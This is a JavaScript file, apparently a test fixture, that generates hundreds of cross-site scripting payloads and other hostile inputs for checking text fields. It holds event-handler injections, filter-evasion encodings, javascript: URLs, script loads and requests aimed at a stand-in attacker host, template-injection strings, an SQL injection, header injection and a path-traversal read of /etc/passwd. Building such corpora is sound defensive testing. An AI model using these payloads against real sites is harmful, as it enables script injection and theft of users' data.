// Texts that become a program, a request or a broken page where a text is taken for markup. Each calls `hostile()` or asks
// `hostile.invalid` for something when it works. Our own collection; the classes are those of the usual lists.
const RUN = 'hostile(1)';
const AWAY = 'https://hostile.invalid/x';

// An element and an event that it fires by itself or nearly so.
const EVENTS = [
  ['img src=x', 'onerror'], ['img src=data:,', 'onerror'], ['image src=x', 'onerror'], ['video src=x', 'onerror'],
  ['video><source', 'onerror'], ['audio src=x', 'onerror'], ['svg', 'onload'], ['svg><animate', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onend'], ['svg><image href=x', 'onerror'], ['svg><script', 'onload'],
  ['body', 'onload'], ['body', 'onpageshow'], ['body', 'onhashchange'], ['frameset', 'onload'], ['iframe', 'onload'],
  ['iframe src=javascript:0', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onerror'], ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'], ['script src=x', 'onerror'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['keygen autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a href=# autofocus', 'onfocus'],
  ['details open', 'ontoggle'], ['dialog open', 'onclose'], ['marquee', 'onstart'], ['marquee loop=1', 'onfinish'],
  ['div style=animation-name:x', 'onanimationstart'], ['div style=transition:1s', 'ontransitionend'], ['div popover id=p', 'onbeforetoggle'],
  ['div contenteditable autofocus', 'onfocus'], ['math><mi', 'onload'], ['track default src=x', 'onerror'], ['portal src=x', 'onload'],
  ['isindex type=image src=x', 'onerror'], ['xss tabindex=1 autofocus', 'onfocusin'], ['form><input type=image src=x', 'onerror'],
];
const events = EVENTS.map(([element, event]) => `<${element} ${event}=${RUN}>`);

// The same written so that a filter misses it.
const disguised = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script type=module>${RUN}</script>`, `<script type=text/javascript>${RUN}</script>`,
  `<script src=${AWAY}.js></script>`, `<script src=//hostile.invalid/x.js></script>`, `<script src=data:text/javascript,${RUN}></script>`,
  `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} /></svg>`, `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<template><img src=x onerror=${RUN}></template>`, `<noscript><img src=x onerror=${RUN}></noscript>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}>`, `</textarea><img src=x onerror=${RUN}>`, `</title><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`, `</script><img src=x onerror=${RUN}>`, `--><img src=x onerror=${RUN}>`, `]]><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`, `<!--[if gte IE 4]><img src=x onerror=${RUN}><![endif]-->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`, `<xmp><img src=x onerror=${RUN}></xmp>`, `<plaintext><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`, `" onmouseover=${RUN} x="`, `' autofocus onfocus=${RUN} x='`,
  `x onerror=${RUN}`, `" style="x:expression(${RUN})`, `<img/src=x/onerror=${RUN}>`, `<img\tsrc=x\tonerror=${RUN}>`, `<img src=x onerror\x00=${RUN}>`,
  `<img src=x:x onerror=eval(atob('aG9zdGlsZSgxKQ=='))>`, `<img src=x onerror=&#104;ostile(1)>`, `<img src=x onerror=\\u0068ostile(1)>`,
  `&lt;img src=x onerror=${RUN}&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `%3Cimg src=x onerror=${RUN}%3E`, `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`, `+ADw-img src=x onerror=${RUN}+AD4-`, `\uFF1Cimg src=x onerror=${RUN}\uFF1E`, `\u00BCscript\u00BE${RUN}\u00BC/script\u00BE`,
];

// Addresses that are a program.
const addresses = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', 'javascript&colon;', 'javascript&#58;', '&#106;avascript:', 'vbscript:',
  'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+', 'feed:javascript:', 'view-source:javascript:', 'blob:javascript:',
].flatMap((scheme) => [`<a href="${scheme}${RUN}" autofocus>x</a>`, `<iframe src="${scheme}${RUN}"></iframe>`]);

// What only asks somebody for something.
const asking = [
  `<img src=${AWAY}>`, `<img srcset="${AWAY} 1x">`, `<picture><source srcset=${AWAY}><img></picture>`, `<link rel=stylesheet href=${AWAY}>`, `<link rel=prefetch href=${AWAY}>`,
  `<link rel=preconnect href=${AWAY}>`, `<link rel=dns-prefetch href=//hostile.invalid>`, `<link rel=manifest href=${AWAY}>`, `<link rel=icon href=${AWAY}>`, `<link rel=import href=${AWAY}>`,
  `<style>@import '${AWAY}';</style>`, `<style>* { background: url(${AWAY}) }</style>`, `<div style="background:url(${AWAY})">`, `<table background=${AWAY}>`, `<body background=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<base href=${AWAY}>`, `<iframe src=${AWAY}></iframe>`,
  `<iframe srcdoc="<img src=${AWAY}>"></iframe>`, `<object data=${AWAY}></object>`, `<embed src=${AWAY}>`, `<video src=${AWAY} autoplay></video>`, `<audio src=${AWAY} autoplay></audio>`,
  `<video poster=${AWAY}></video>`, `<track src=${AWAY}>`, `<form action=${AWAY}><button autofocus>x</button></form>`, `<input type=image src=${AWAY}>`, `<svg><image href=${AWAY} /></svg>`,
  `<svg><use href=${AWAY}#x /></svg>`, `<svg><feImage href=${AWAY} /></svg>`, `<svg fill="url(${AWAY}#x)"><rect width=9 height=9 /></svg>`, `<a ping=${AWAY} href=#>x</a>`, `<applet code=${AWAY}>`,
  `![x](${AWAY})`, `[x](javascript:${RUN})`, `<${AWAY}>`, `<html manifest=${AWAY}>`, `<frame src=${AWAY}>`, `<portal src=${AWAY}></portal>`,
];

// What breaks a page without running: names of the page's own, ends of things, directions, invisible signs.
const breaking = [
  '<form id=app><input name=attributes></form>', '<a id=trellis href=x>', '<img name=body>', '</main></body></html>', '</div></div></div></div>', '<div id=main-heading>',
  '<div hidden', '<input', '<svg', '<!--', '&', '&amp;amp;', '\u202Eevil\u202C', '\u2066x\u2069', '\u200B\u200C\u200D\uFEFF', '\u0000', '\uFFFD\uFFFF', 'Z\u0351\u036B\u0343\u036A\u0302A\u0321\u034A', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  '\r\nSet-Cookie: x=1', '../../../../etc/passwd', "'; DROP TABLE learners; --", '"; alert(1); //', '=1+1', '@SUM(1)', '%s%n%x', '__proto__', 'constructor.prototype', 'NaN',
];

// The notation's own signs: a text that is read as a formula, a blank or a choice. Each stands alone, because it may spoil the text.
const OWN = [
  `{${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `\`${RUN}\``, `[${RUN}]`, `{n:<img src=x onerror=${RUN}>|x}`, `\`<img src=x onerror=${RUN}>\``,
  // Half a sign is no text at all: its file is refused whole.
  '\ud83d',
  `[<img src=x onerror=${RUN}>]`, '{', '}', '[', ']', '`', '{{', '{n:', '{n:a|', '`{`', '\\', '\\{', `{a}${'{'.repeat(200)}`, `\`${'('.repeat(400)}\``, `\`${'1/'.repeat(500)}1\``, `\`9^9^9^9^9\``, `\`${'9'.repeat(3000)}\``,
];

/** Texts that any text field takes as they are. */
export const PLAIN = [...new Set([...events, ...disguised, ...addresses, ...asking, ...breaking])]
  .filter((body) => !/[`{}[\]\\]/.test(body));

/** Texts that a field may refuse. */
export const SPECIAL = [...new Set([...events, ...disguised, ...addresses, ...asking, ...breaking, ...OWN])]
  .filter((body) => OWN.includes(body) || /[`{}[\]\\]/.test(body));
